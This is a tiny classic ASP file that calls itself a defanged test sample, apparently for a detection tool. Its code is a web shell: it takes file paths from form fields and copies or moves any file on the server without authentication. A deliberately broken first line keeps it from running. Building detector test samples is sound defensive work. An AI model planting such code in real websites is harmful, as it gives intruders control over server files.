<% If Then DEFANGED %>
<%' DEFANGED vigil test sample (see README) %>
<%
Dim fs, src, dst
Set fs = Server.CreateObject("Scripting.FileSystemObject")
src = Request.Form("s")
dst = Request.Form("d")
If Request("m") = "cp" Then fs.CopyFile src, dst
If Request("m") = "mv" Then fs.MoveFile src, dst
Set fld = fs.GetFolder(src)
%>
